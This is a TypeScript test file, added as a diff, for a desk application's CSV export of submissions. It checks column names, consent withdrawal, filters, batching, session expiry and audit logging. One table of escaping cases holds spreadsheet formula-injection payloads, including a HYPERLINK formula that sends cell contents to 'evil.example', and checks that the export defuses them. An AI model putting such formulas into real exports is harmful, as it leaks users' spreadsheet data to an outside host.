@@ -1,0 +1,311 @@
+import { beforeAll, describe, expect, test } from "vitest";
+import { readTable } from "../../../../e2e/support/read-csv.ts";
+import type { Operator } from "../../../domain/access/operator.ts";
+import { questions } from "../../../domain/submissions/core/questions.ts";
+import type { SubmissionRef } from "../../../domain/submissions/core/submission-ref.ts";
+import { parseInboxQuery } from "../../../domain/submissions/inbox/inbox-query.ts";
+import { newOperator } from "../../access/operator.fixture.ts";
+import { database } from "../../db.ts";
+import { DeskRecords, hoursAgo, newWord, now } from "../core/desk.fixture.ts";
+import { exportColumnNames, exportSubmissions } from "./export-submissions.ts";
+
+const records = new DeskRecords(process.env.DATABASE_URL);
+let operator: Operator;
+beforeAll(async () => {
+  operator = await records.operator();
+});
+
+type Params = Record<string, string | string[]>;
+
+async function listParts(params: Params, limit?: number, by = operator): Promise<string[]> {
+  const parts: string[] = [];
+  for await (const part of exportSubmissions(parseInboxQuery(params), { operator: by, now }, { limit }))
+    parts.push(part);
+  return parts;
+}
+
+/** The rows of the file, which begins with a byte order mark. */
+async function exported(params: Params, limit?: number, by = operator): Promise<Record<string, string>[]> {
+  const text = (await listParts(params, limit, by)).join("");
+  expect(text.startsWith("\ufeffkind,id,created_at,")).toBe(true);
+  return readTable(text.slice(1));
+}
+const toRefs = (rows: Record<string, string>[]) => rows.map(({ kind, id }) => ({ kind, id: Number(id) }));
+const found = async (params: Params, by = operator) => toRefs(await exported(params, undefined, by));
+
+const readAudit = async ({ id }: Operator) =>
+  (await records.client.query("SELECT at, actor, action, details FROM audit_entries WHERE operator_id = $1", [id]))
+    .rows;
+
+describe("a line", () => {
+  test("of an evaluation has every column, under stable names", async () => {
+    const owner = await records.operator({ name: "Olga Owner" });
+    const { id } = await records.evaluation({
+      owner_id: owner.id,
+      name: "Ana Ruiz",
+      company: "Casa Ruiz",
+      email: "ana.ruiz@example.com",
+      phone: "+502 5555 1234",
+      channel: "ai_agent",
+      agent_name: "Some Assistant",
+      user_consent: true,
+      answers: [0, 1, 2, 0.5, 1, 2, 0, 1, 2],
+      score: 9.5,
+      status: "lost",
+      replied_at: hoursAgo(0.5),
+      close_reason: "No budget",
+      landing_page: "/es?utm_source=x",
+      referrer: "https://example.org/",
+      utm: { utm_source: "news & more", gclid: "a=b" },
+      notice_version: "2026-09-01",
+      consent_confirmed_at: now,
+      consent_notice_version: "2026-10-01",
+      assisted_by: "Claude",
+      host_evidence: "egress",
+      assistant_host: "Claude",
+    });
+    const answers = [0, 1, 2, 0.5, 1, 2, 0, 1, 2].map(String);
+    expect(await exported({ owner: owner.id })).toEqual([
+      {
+        kind: "evaluation",
+        id: String(id),
+        created_at: "2026-11-21T11:00:00.000Z",
+        status: "lost",
+        route: "review",
+        score: "9.5",
+        owner: "Olga Owner",
+        name: "Ana Ruiz",
+        role: "Brand manager",
+        company: "Casa Ruiz",
+        email: "ana.ruiz@example.com",
+        phone: "'+502 5555 1234",
+        text: "A loyalty programme for three countries.",
+        topic: "",
+        discovery_source: "A friend",
+        language: "es",
+        channel: "ai_agent",
+        agent_name: "Some Assistant",
+        user_consent: "true",
+        source_page: "/es/evaluation",
+        landing_page: "/es?utm_source=x",
+        referrer: "https://example.org/",
+        utm: "gclid=a%3Db&utm_source=news+%26+more",
+        ...Object.fromEntries(questions.map(({ key }, at) => [key, answers[at]])),
+        replied_at: "2026-11-21T11:30:00.000Z",
+        closed_at: "2026-11-21T12:00:00.000Z",
+        close_reason: "No budget",
+        privacy_notice_version: "2026-09-01",
+        consent: "confirmed",
+        consent_confirmed_at: "2026-11-21T12:00:00.000Z",
+        consent_notice_version: "2026-10-01",
+        review_min: "7",
+        qualified_min: "13",
+        assisted_by: "Claude",
+        repeat_of: "",
+        spam_reasons: "",
+        host_evidence: "egress",
+        assistant_host: "Claude",
+        reply_due_at: "2026-11-23T11:00:00.000Z",
+      },
+    ]);
+    expect(exportColumnNames).toHaveLength(new Set(exportColumnNames).size);
+  });
+
+  test("is not there of what its person has withdrawn, and those around it are, part by part", async () => {
+    const owner = await records.operator();
+    const withdrawn = { owner_id: owner.id, consent_withdrawn_at: now };
+    const kept = await records.evaluation({ owner_id: owner.id, created_at: hoursAgo(3) });
+    const other = await records.inquiry({ owner_id: owner.id, created_at: hoursAgo(9) });
+    for (const hours of [1, 2, 4, 5, 6, 7]) {
+      await records[hours % 2 ? "evaluation" : "inquiry"]({ ...withdrawn, created_at: hoursAgo(hours) });
+    }
+    for (const limit of [1, 2, 3, 100]) {
+      expect(toRefs(await exported({ owner: owner.id }, limit))).toEqual([kept, other]);
+    }
+  });
+
+  test("of an inquiry has its message and topic, and empty cells for columns of evaluations", async () => {
+    const owner = await records.operator();
+    const { id } = await records.inquiry({ owner_id: owner.id, topic: "prize-draws" });
+    const [row] = await exported({ owner: owner.id });
+    expect(row).toMatchObject({ kind: "inquiry", id: String(id), text: "What does it cost?", topic: "prize-draws" });
+    expect(row).toMatchObject({ user_consent: "", utm: "", replied_at: "", close_reason: "" });
+    expect(row).toMatchObject({ consent: "not_needed", consent_confirmed_at: "", consent_notice_version: "" });
+    const ofLeads = [
+      "review_min",
+      "qualified_min",
+      "route",
+      "score",
+      "role",
+      "company",
+      "phone",
+      "discovery_source",
+      ...questions.map((q) => q.key),
+    ];
+    for (const name of ofLeads) expect([name, row?.[name]]).toEqual([name, ""]);
+  });
+
+  test.each([
+    ["a, b; c", "a, b; c"],
+    ['say "hello"', 'say "hello"'],
+    ['"', '"'],
+    ["one\r\ntwo", "one\r\ntwo"],
+    ["one\ntwo", "one\ntwo"],
+    ["one\rtwo", "one\rtwo"],
+    ["Ñandú 🎁 日本 \u202e", "Ñandú 🎁 日本 \u202e"],
+    ["=1+1", "'=1+1"],
+    ['=HYPERLINK("https://evil.example?"&A1,"x")', `'=HYPERLINK("https://evil.example?"&A1,"x")`],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["-2+3", "'-2+3"],
+    ['" =1', `'" =1`],
+    ["hello\n=1", "hello\n'=1"],
+  ])("writes %j as %j, in each column of visitors' text", async (written, shown) => {
+    const owner_id = (await records.operator()).id;
+    const shared = { owner_id, name: written, agent_name: written, channel: "ai_agent", user_consent: true };
+    const pages = { source_page: written, landing_page: written, referrer: written };
+    const lead = { role: written, company: written, text: written, discovery_source: written };
+    await records.evaluation({ ...shared, ...pages, ...lead, phone: written, utm: { [written]: "x" } });
+    await records.inquiry({ ...shared, ...pages, text: written, created_at: hoursAgo(2) });
+    const [first, second] = await exported({ owner: owner_id });
+    const ofBoth = ["name", "agent_name", "source_page", "landing_page", "referrer", "text"];
+    for (const name of [...ofBoth, "role", "company", "discovery_source", "phone"]) expect(first?.[name]).toBe(shown);
+    for (const name of ofBoth) expect(second?.[name]).toBe(shown);
+    expect(first?.utm).toMatch(/^'?[^=+@\s]/);
+  });
+});
+
+test("every filter of the inbox applies to the file", async () => {
+  const [owner, me] = [await records.operator(), await records.operator()];
+  const agent = `Assistant ${newWord()}`;
+  const q = newWord();
+  const shared = { owner_id: owner.id, name: q };
+  const byAgent = { channel: "ai_agent", agent_name: agent, user_consent: true, consent_evidence: "elicited" };
+  const lead = await records.evaluation({ ...shared, ...byAgent, route: "qualified", language: "en", status: "won" });
+  const inquiry = await records.inquiry({ ...shared, created_at: new Date("2026-11-19T12:00:00Z") });
+  const mine = await records.evaluation({ owner_id: me.id, created_at: new Date("2026-11-18T12:00:00Z") });
+  const own = { owner: owner.id };
+  expect(await found(own)).toEqual([lead, inquiry]);
+  expect(await found({ ...own, kind: "inquiry" })).toEqual([inquiry]);
+  expect(await found({ ...own, route: "qualified" })).toEqual([lead]);
+  expect(await found({ ...own, route: "redirect" })).toEqual([]);
+  expect(await found({ ...own, status: ["won", "lost"] })).toEqual([lead]);
+  expect(await found({ ...own, status: "open" })).toEqual([inquiry]);
+  expect(await found({ ...own, channel: "web" })).toEqual([inquiry]);
+  expect(await found({ ...own, language: "en" })).toEqual([lead]);
+  expect(await found({ ...own, from: "2026-11-20" })).toEqual([lead]);
+  expect(await found({ ...own, to: "2026-11-20" })).toEqual([inquiry]);
+  expect(await found({ agent: agent.toUpperCase() })).toEqual([lead]);
+  expect(await found({ q })).toEqual([lead, inquiry]);
+  expect(await found({ q, kind: "evaluation" })).toEqual([lead]);
+  expect(await found({ q: "?!" })).toEqual([]);
+  expect(await found({ owner: "me" }, me)).toEqual([mine]);
+  expect(await found({ ...own, sort: "oldest" })).toEqual([inquiry, lead]);
+  expect(await found({ ...own, sort: "due" })).toEqual([inquiry, lead]);
+  expect(await exported({ ...own, consent: "elicited" })).toMatchObject([{ id: `${lead.id}`, consent: "elicited" }]);
+  expect(await found({ ...own, cursor: `inquiry-${now.getTime()}-1`, direction: "backward" })).toEqual([lead, inquiry]);
+});
+
+test("without a match, the file has only the header", async () => {
+  expect(await listParts({ agent: newWord() })).toEqual([`\ufeff${exportColumnNames.join()}\r\n`]);
+});
+
+describe("in batches", () => {
+  let owner: string;
+  let refs: SubmissionRef[];
+  beforeAll(async () => {
+    owner = (await records.operator()).id;
+    const stored: (SubmissionRef & { at: number })[] = [];
+    // All rows have one of two times, so every batch ends between equal times.
+    for (let count = 0; count < 17; count++) {
+      const created_at = hoursAgo(1 + (count % 2));
+      const change = { owner_id: owner, created_at, status: count % 4 ? "new" : "in_review" };
+      const ref =
+        count % 5 < 3 ? await records.evaluation(change) : await records.inquiry({ ...change, replied_at: now });
+      stored.push({ ...ref, at: created_at.getTime() });
+    }
+    const kindOrder = ({ kind }: SubmissionRef) => (kind === "inquiry" ? 1 : 0);
+    stored.sort((a, b) => b.at - a.at || kindOrder(b) - kindOrder(a) || b.id - a.id);
+    refs = stored.map(({ kind, id }) => ({ kind, id }));
+  });
+
+  test.each([1, 2, 3, 8, 16, 17, 18])("of %d have every row once, in order, and the header once", async (limit) => {
+    for (const status of ["", "open"]) {
+      expect(toRefs(await exported({ owner, status }, limit))).toEqual(refs);
+      expect(toRefs(await exported({ owner, status, sort: "oldest" }, limit))).toEqual(refs.toReversed());
+      expect(toRefs(await exported({ owner, status, sort: "due" }, limit))).toEqual([
+        ...refs.filter(({ kind }) => kind === "evaluation").reverse(),
+        ...refs.filter(({ kind }) => kind === "inquiry"),
+      ]);
+    }
+    expect((await listParts({ owner }, limit)).length).toBe(Math.ceil(17 / limit));
+  });
+
+  test("are read only on demand", async () => {
+    const name = newWord();
+    for (let count = 0; count < 3; count++) await records.evaluation({ name, created_at: hoursAgo(count) });
+    const parts = exportSubmissions(parseInboxQuery({ q: name }), { operator, now }, { limit: 2 });
+    await parts.next();
+    const late = await records.evaluation({ name, created_at: hoursAgo(9) });
+    const { value } = await parts.next();
+    expect(value).toContain(`evaluation,${late.id},`);
+  });
+});
+
+test("a submission answered during an export sorted by `due` is exported once", async () => {
+  const name = newWord();
+  for (let count = 0; count < 3; count++) await records.evaluation({ name, created_at: hoursAgo(count) });
+  const parts = exportSubmissions(parseInboxQuery({ q: name, sort: "due" }), { operator, now }, { limit: 1 });
+  let text = (await parts.next()).value ?? "";
+  await records.client.query("UPDATE submissions SET replied_at = $1, status = 'booked' WHERE name = $2", [now, name]);
+  for await (const part of parts) text += part;
+  const ids = readTable(text.slice(1)).map(({ id }) => id);
+  expect(ids).toHaveLength(3);
+  expect(new Set(ids).size).toBe(3);
+});
+
+test("the export ends with the session", async () => {
+  const { operator: by } = await newOperator("member");
+  const name = newWord();
+  for (let count = 0; count < 4; count++) await records.evaluation({ name, created_at: hoursAgo(count) });
+  const query = parseInboxQuery({ q: name });
+  const parts = exportSubmissions(query, { operator: by, now }, { limit: 1, checkMilliseconds: 0 });
+  await parts.next();
+  expect((await parts.next()).done).toBe(false);
+  await database((db) => db.operator.update({ where: { id: by.id }, data: { disabledAt: now } }), "desk");
+  await expect(parts.next()).rejects.toMatchObject({ kind: "unauthorized" });
+});
+
+describe("the audit log", () => {
+  test("records the filters before the first row, without the search text", async () => {
+    const by = await records.operator();
+    const [q, agent] = [newWord(), `Agent ${newWord()}`];
+    const query = parseInboxQuery({
+      q,
+      agent,
+      status: ["won", "lost"],
+      owner: "me",
+      source: `named:${agent}`,
+      sourceNot: ["direct", "agent:x"],
+      reason: agent,
+      sort: "oldest",
+      cursor: "evaluation-1-1",
+    });
+    const parts = exportSubmissions(query, { operator: by, now });
+    expect(await readAudit(by)).toEqual([]);
+    await parts.next();
+    const filters = "status=closed&agent=*&owner=me&source=*&sourceNot=*&reason=*&q=*&sort=oldest";
+    expect(await readAudit(by)).toEqual([
+      { at: now, actor: by.email, action: "submissions_exported", details: { filters } },
+    ]);
+    await parts.return();
+    expect(await readAudit(by)).toHaveLength(1);
+  });
+
+  test("records that there were no filters", async () => {
+    const by = await records.operator();
+    const parts = exportSubmissions(parseInboxQuery({}), { operator: by, now }, { limit: 1 });
+    await parts.next();
+    await parts.return();
+    expect(await readAudit(by)).toMatchObject([{ details: { filters: "none" } }]);
+  });
+});
